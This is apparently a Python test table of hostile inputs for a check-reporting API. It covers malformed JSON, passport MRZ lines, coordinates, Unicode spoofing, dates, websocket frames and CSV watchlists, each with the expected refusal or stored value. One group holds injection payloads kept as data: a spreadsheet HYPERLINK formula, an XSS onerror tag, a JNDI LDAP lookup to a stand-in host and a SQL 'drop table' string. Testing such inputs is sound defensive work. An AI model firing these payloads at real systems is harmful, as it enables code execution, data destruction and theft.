"""The hostile inputs of the security paper, §5, by the numbers they have there: what is sent, what is answered."""

import json
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any, NamedTuple

Change = dict[str, Any]


class Body(NamedTuple):
    """Bytes as they are, to the call that files a check."""

    body: bytes
    headers: dict[str, str] = {}  # noqa: RUF012


class Check(NamedTuple):
    """A report that would be right but for this. Sent to `/api/checks`."""

    change: Change


class Frames(NamedTuple):
    """What is said on an open websocket."""

    frames: Sequence[str | bytes]


class Wire(NamedTuple):
    """Bytes on an open websocket, below its frames."""

    data: bytes


class File(NamedTuple):
    """A watchlist."""

    body: bytes


class Refused(NamedTuple):
    """The status; for a field that must be mended its pointer."""

    status: int
    pointer: str = ""


class Kept(NamedTuple):
    """It is a check now, and its country reads this value at this place of it."""

    place: str = "version"
    value: object = 1


class Closed(NamedTuple):
    """The code that the connection ends with."""

    code: int


class Told(NamedTuple):
    """The connection stays, and this comes."""

    type: str
    why: str = ""


class Rejects(NamedTuple):
    """The file as a whole is refused with this in the reason (`state` empty), or ends in a state with such rows."""

    said: str
    state: str = ""


class Row(NamedTuple):
    group: int
    what: str
    sent: Body | Check | Frames | Wire | File
    told: Refused | Kept | Closed | Told | Rejects


def person(*names: Any, **more: Any) -> Change:
    return {"subject": {"kind": "person", "names": list(names), **more}}


def at(lon: object, lat: object, **more: object) -> Change:
    return {"position": {"lon": lon, "lat": lat, **more}}


def passport(*lines: str) -> Change:
    return {"subject": {"kind": "person", "documents": [{"type": "passport", "mrz": list(lines)}]}}


def when(text: str) -> Change:
    return {"occurred_at": text}


LINE_1 = "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<"
LINE_2 = "L898902C36UTO7408122F1204159ZE184226B<<<<<10"
"""The specimen of ICAO 9303 part 4, appendix A."""
EMPTY_OPTIONAL = "L898902C36UTO7408122F1204159<<<<<<<<<<<<<<<8"
HEAD = "source_id,kind,plate,country,action,purpose,legal_basis,review_by,category,note"
GOOD = "1,vehicle,11 ZQ 4711 BF,BF,inquiry,Origin,Order 7 (invented),2028-11-01,suspect,"
HELLO = '{"type":"hello","cursor":null,"topics":[]}'
# Hours, because the table is made when the tests are collected, and they may run much later.
LATER = (datetime.now(UTC) + timedelta(hours=9)).isoformat()


def hello(cursor: object) -> str:
    return json.dumps({"type": "hello", "cursor": cursor, "topics": []})


ROWS = [
    Row(1, "no body", Body(b""), Refused(422)),
    Row(1, "a space", Body(b" "), Refused(400)),
    Row(3, "byte 0xFF in a text", Body(b'{"note": "a\xff"}'), Refused(400)),
    Row(4, "lists in lists, 15,000 deep", Body(b"[" * 15_000 + b"]" * 15_000), Refused(400)),
    Row(4, "100,000 deep", Body(b"[" * 100_000 + b"]" * 100_000), Refused(413)),
    Row(5, "a key twice", Body(b'{"note": "a", "note": "b"}'), Refused(422, "/note")),
    Row(6, "an unknown field", Check({"colour": "red"}), Refused(422, "/colour")),
    Row(7, "NaN", Body(b'{"position": {"lon": NaN, "lat": 0}}'), Refused(400)),
    Row(7, "1e400", Body(b'{"position": {"lon": 1e400, "lat": 0}}'), Refused(400)),
    Row(8, "bytes after the end", Body(b'{"note": "a"} {}'), Refused(400)),
    Row(9, "a gzip bomb", Body(b"\x1f\x8b" + bytes(9000), {"content-encoding": "gzip"}), Refused(415)),
    Row(10, "text/plain", Body(b"{}", {"content-type": "text/plain"}), Refused(415)),
    Row(11, "2^63", Body(b'{"position": {"lon": 9223372036854775808, "lat": 0}}'), Refused(400)),
    Row(11, "-0", Check(at(0.0001, -0.0)), Kept("position/lat", 0)),
    Row(11, "a decimal for a truth", Check({"as_printed": 1.0}), Refused(422, "/as_printed")),
    Row(13, "uuid nil", Check({"id": "00000000-0000-0000-0000-000000000000"}), Refused(422, "/id")),
    Row(13, "uuid all f", Check({"id": "ffffffff-ffff-ffff-ffff-ffffffffffff"}), Refused(422, "/id")),
    Row(14, "an operation that is not mine", Check({"operation": "elsewhere"}), Refused(404)),
    Row(
        17, "MRZ in small letters", Check(passport(LINE_1.lower(), LINE_2)), Refused(422, "/subject/documents/0/mrz/0")
    ),
    Row(
        18,
        "a wrong digit",
        Check(passport(LINE_1, "L898902C37" + LINE_2[10:])),
        Refused(422, "/subject/documents/0/mrz/1"),
    ),
    Row(
        18,
        "a wrong digit, seen as printed",
        Check({**passport(LINE_1, "L898902C37" + LINE_2[10:]), "as_printed": True}),
        Kept("subject/documents/0/mrz/1", "L898902C37" + LINE_2[10:]),
    ),
    Row(19, "`<` as the digit of an empty field", Check(passport(LINE_1, EMPTY_OPTIONAL[:42] + "<8")), Kept()),
    Row(
        20,
        "a birth date of noughts",
        Check({**passport(LINE_1, "L898902C36UTO0000000F1204159ZE184226B<<<<<14"), "as_printed": True}),
        Kept(),
    ),
    Row(
        20,
        "31 February in the zone",
        Check({**passport(LINE_1, "L898902C36UTO8502312F1204159ZE184226B<<<<<14"), "as_printed": True}),
        Kept(),
    ),
    Row(
        20,
        "a birth date of a year and fillers",
        Check({**passport(LINE_1, "L898902C36UTO99<<<<2F1204159ZE184226B<<<<<14"), "as_printed": True}),
        Kept(),
    ),
    Row(22, "29 characters", Check(passport(LINE_1[:29], LINE_2[:29])), Refused(422, "/subject/documents/0/mrz/0")),
    Row(22, "31 characters", Check(passport(LINE_1[:31], LINE_2[:31])), Refused(422, "/subject/documents/0")),
    Row(22, "43 characters", Check(passport(LINE_1[:43], LINE_2[:43])), Refused(422, "/subject/documents/0")),
    Row(22, "45 characters", Check(passport(LINE_1 + "<", LINE_2 + "<")), Refused(422, "/subject/documents/0/mrz/0")),
    Row(22, "two lengths", Check(passport(LINE_1, LINE_2[:36])), Refused(422, "/subject/documents/0")),
    Row(22, "three lines of 44", Check(passport(LINE_1, LINE_2, LINE_2)), Refused(422, "/subject/documents/0")),
    Row(22, "an emoji", Check(passport(LINE_1[:43] + "🛂", LINE_2)), Refused(422, "/subject/documents/0/mrz/0")),
    Row(23, "issued by XXA", Check(passport(LINE_1.replace("UTO", "XXA"), LINE_2)), Kept()),
    Row(23, "issued by the United Nations", Check(passport(LINE_1.replace("UTO", "UNO"), LINE_2)), Kept()),
    Row(23, "issued by nobody we know", Check(passport(LINE_1.replace("UTO", "QQQ"), LINE_2)), Kept()),
    Row(23, "issued by D", Check(passport(LINE_1.replace("UTO", "D<<"), LINE_2)), Kept()),
    Row(24, "the text nan", Check(at("nan", 0)), Refused(422, "/position/lon")),
    Row(24, "-Infinity", Body(b'{"position": {"lon": -Infinity, "lat": 0}}'), Refused(400)),
    Row(25, "beyond the pole", Check(at(0, 90.0000001)), Refused(422, "/position/lat")),
    Row(25, "the pole", Check(at(12, 90)), Kept("position/lat", 90)),
    Row(26, "the date line from both sides", Check(at(-180, 10)), Kept("position/lon", -180)),
    Row(27, "lat and lon swapped", Check(at(16.27, -0.04)), Kept("doubts", ["swapped"])),
    Row(27, "far from the post", Check(at(30, -30)), Kept("doubts", ["far-from-post"])),
    Row(27, "beside the post", Check(at(-0.05, 16.3)), Kept("doubts", [])),
    Row(28, "0, 0", Check(at(0, 0)), Kept("doubts", ["null-island"])),
    Row(29, "accuracy -1", Check(at(0, 0, accuracy_m=-1)), Refused(422, "/position/accuracy_m")),
    Row(29, "accuracy 1e9", Check(at(0, 0, accuracy_m=1e9)), Refused(422, "/position/accuracy_m")),
    Row(
        30,
        "overrides of direction",
        Check(person("A\u202ewa \u2066Diarra\u2069")),
        Kept("subject/names/0", "Awa Diarra"),
    ),
    Row(
        31,
        "zero width and soft hyphen",
        Check(person("A\u200bwa Di\u00adarra")),
        Kept("subject/names/0", "A\u200bwa Di\u00adarra"),
    ),
    Row(32, "10 kB", Check(person("a" * 10_000)), Refused(422, "/subject/names/0")),
    Row(32, "200 ligatures of 18 letters", Check(person("\ufdfa" * 200)), Refused(422, "/subject")),
    Row(
        32, "201 bytes of 4 in a part", Check(person({"full": "𐎠" * 200 + "a"})), Refused(422, "/subject/names/0/full")
    ),
    Row(33, "300 marks on a letter", Check(person("A" + "\u0301" * 300)), Refused(422, "/subject/names/0")),
    Row(33, "150 marks on a letter", Check(person("A" + "\u0301" * 150)), Refused(422, "/subject")),
    Row(34, "nothing but emoji", Check(person("😀😀")), Refused(422, "/subject/names/0")),
    Row(34, "nothing after cleaning", Check(person("\u202e\u0007")), Refused(422, "/subject/names/0")),
    Row(35, "U+0000", Body(b'{"note": "a\\u0000"}'), Refused(400)),
    Row(35, "a C1 control", Check(person("Awa\u0085 Diarra")), Kept("subject/names/0", "Awa Diarra")),
    Row(35, "half a character", Body(b'{"note": "a\\ud800"}'), Refused(400)),
    Row(
        36,
        "a Cyrillic letter among Latin ones",
        Check(person("Аwa Diarra")),
        Kept("subject/names/0", "Аwa Diarra"),
    ),
    Row(
        37,
        "a formula",
        Check({"note": '=HYPERLINK("https://elsewhere.example")'}),
        Kept("note", '=HYPERLINK("https://elsewhere.example")'),
    ),
    Row(37, "a script", Check({"note": "<img src=x onerror=alert(1)>"}), Kept("note", "<img src=x onerror=alert(1)>")),
    Row(
        37,
        "a look-up",
        Check({"note": "${jndi:ldap://elsewhere.example}"}),
        Kept("note", "${jndi:ldap://elsewhere.example}"),
    ),
    Row(
        37,
        "a statement",
        Check({"note": "'; drop table ops.check_report; --"}),
        Kept("note", "'; drop table ops.check_report; --"),
    ),
    Row(38, "nine hours ahead", Check(when(LATER)), Kept("clock_suspect", True)),
    Row(39, "before 1900", Check(when("1899-12-31T23:59:59Z")), Refused(422, "/occurred_at")),
    Row(39, "the year 1", Check(when("0001-01-01T00:00:00Z")), Refused(422, "/occurred_at")),
    Row(39, "the year 9999", Check(when("9999-12-31T23:59:59Z")), Refused(422, "/occurred_at")),
    Row(39, "infinity", Check(when("infinity")), Refused(422, "/occurred_at")),
    Row(39, "a birth in 0000", Check(person("Awa Diarra", birth_date="0000")), Refused(422, "/subject")),
    Row(
        40,
        "a leap second",
        Check(when("2016-12-31T23:59:60Z")),
        Kept("occurred_at", "2016-12-31T23:59:59.999000Z"),
    ),
    Row(40, "a second 61", Check(when("2016-12-31T23:59:61Z")), Refused(422, "/occurred_at")),
    Row(41, "no zone", Check(when("2026-11-25T10:00:00")), Refused(422, "/occurred_at")),
    Row(42, "a zone of 24 hours", Check(when("2026-11-25T10:00:00+24:00")), Refused(422, "/occurred_at")),
    Row(
        42,
        "an hour that a zone leaves out",
        Check(when("2026-03-29T02:30:00+01:00")),
        Kept("occurred_at", "2026-03-29T01:30:00Z"),
    ),
    Row(43, "no hello", Frames([]), Closed(4408)),
    Row(43, "64 KiB and more", Frames(['{"type":"hello","topics":["' + "x" * 70_000 + '"]}']), Closed(4413)),
    Row(43, "an unknown word", Frames(['{"type":"shout"}']), Closed(4400)),
    Row(43, "bytes", Frames([b"\x00"]), Closed(4400)),
    Row(43, "a flood", Frames([HELLO, *['{"type":"ping"}'] * 100]), Closed(4429)),
    Row(43, "a flood of pieces", Frames([[*["x"] * 100]]), Closed(4429)),  # pyright: ignore[reportArgumentType]
    Row(43, "a flood of pings", Wire(b"\x89\x80\0\0\0\0" * 100), Closed(4429)),
    Row(43, "a text that is none", Wire(b"\x81\x81\0\0\0\0\xff"), Closed(4400)),
    Row(43, "a frame without a mask", Wire(b"\x81\x02hi"), Closed(1002)),
    Row(43, "a cursor that is a number", Frames([hello(-1)]), Closed(4400)),
    Row(43, "a cursor of nobody", Frames([hello("nonsense")]), Told("resync", "expired")),
    Row(45, "a byte-order mark", File(f"\ufeff{HEAD}\n{GOOD}\n".encode()), Rejects("", "live")),
    Row(45, "UTF-16", File(f"{HEAD}\n{GOOD}\n".encode("utf-16")), Rejects("UTF-16")),
    Row(45, "cp1252", File(f"{HEAD}\n{GOOD}é\n".encode("cp1252")), Rejects("Line 2, byte")),
    Row(45, "GB18030", File(f"{HEAD}\n{GOOD}中\n".encode("gb18030")), Rejects("Line 2, byte")),
    Row(46, "a line without end", File(f"{HEAD}\n".encode() + b"x" * 1_100_000), Rejects("Line 2 is longer")),
    Row(46, "an open quote", File(f'{HEAD}\n"1,vehicle\n{GOOD}\n'.encode()), Rejects("A quote opened here", "live")),
    Row(47, "U+0000", File(f"{HEAD}\n{GOOD}\0\n".encode()), Rejects("U+0000")),
    Row(47, "no columns", File(b"\n\n"), Rejects("empty")),
    Row(47, "2,000 columns", File((",".join(f"c{n}" for n in range(2000)) + "\n").encode()), Rejects("not known")),
    Row(47, "a column twice", File(f"{HEAD},kind\n".encode()), Rejects("twice")),
    Row(47, "a column without a name", File(f"{HEAD},\n".encode()), Rejects("not known")),
    Row(47, "old ends alone", File(f"{HEAD}\r{GOOD}\r".encode()), Rejects("end with a line feed")),
    Row(47, "a name without end", File(b"x" * 200_000 + b"\n"), Rejects("Line 1 cannot be read")),
    Row(47, "mixed ends", File(f"{HEAD}\r\n{GOOD}\n".encode()), Rejects("", "live")),
]

OTHERWISE = {
    1: "no body at all says which fields are missing (422); a blank one cannot be read (400)",
    2: "a byte-order mark is what Windows writes before JSON and means nothing: it is read over (201)",
    4: "deeper than 128 KiB of brackets it is too large (413) before anybody counts them",
    5: "a key that is there twice is a field to mend: 422 with its pointer rather than 400",
    11: "an integer beyond 64 bits is no number that we can read: 400, as 1e400",
    17: "the phone writes capitals and `<`; the server refuses anything else and names the line",
    18: "the officer sees the wrong digit while the paper is in the hand; `as_printed` keeps and flags it",
    20: "a zone whose birth date is none is kept as printed, and screened without it",
    21: "the zone is kept as printed; screening compares two digits of the year with the century that fits",
    23: "there is no list of those who issue papers: what is printed is kept, and no flag says that nobody knows it",
    26: "a point at -180 and one at 180 are kept as sent and drawn at one place; a ring has 100 corners at most",
    35: "a control character says nothing to a reader: it is taken out, as the others that could deceive (30)",
    43: "there are no tickets: a websocket takes the session itself, as often as it comes",
    45: "no encoding is guessed: anything but UTF-8 is refused with how to save it as UTF-8",
    46: "an entry with every field full has up to 0.1 MiB, so a line ends at 1 MiB, not at 64 KiB",
    48: "a bad row is left out and named, the others go live: one word holds up no list; what touches much waits",
}
"""Where the product answers other than the paper had it, and why; the rows above hold what it answers."""

ELSEWHERE = {
    15: [
        "tests/alerts/test_attachments.py::test_a_file_goes_with_its_alert_to_those_who_see_the_alert_and_is_fetched_on_record"
    ],
    26: [
        "tests/ops/test_areas.py::test_an_area_over_the_date_line_holds_what_lies_on_both_sides",
        "tests/ops/test_areas.py::test_what_encloses_nothing_is_refused",
    ],
    30: ["tests/alerts/screening/test_names.py::test_what_deceives_the_eye_hides_nobody"],
    31: ["tests/alerts/screening/test_names.py::test_what_deceives_the_eye_hides_nobody"],
    36: ["tests/alerts/screening/test_names.py::test_what_deceives_the_eye_hides_nobody"],
    37: ["tests/edge/test_csv_out.py::test_whatever_is_typed_comes_back_whole_and_begins_no_formula"],
    43: ["tests/realtime/test_stories.py::test_a_cursor_beyond_the_end_of_the_log_is_of_another_history"],
}
"""Groups, or parts of one, that stories of other rooms show."""
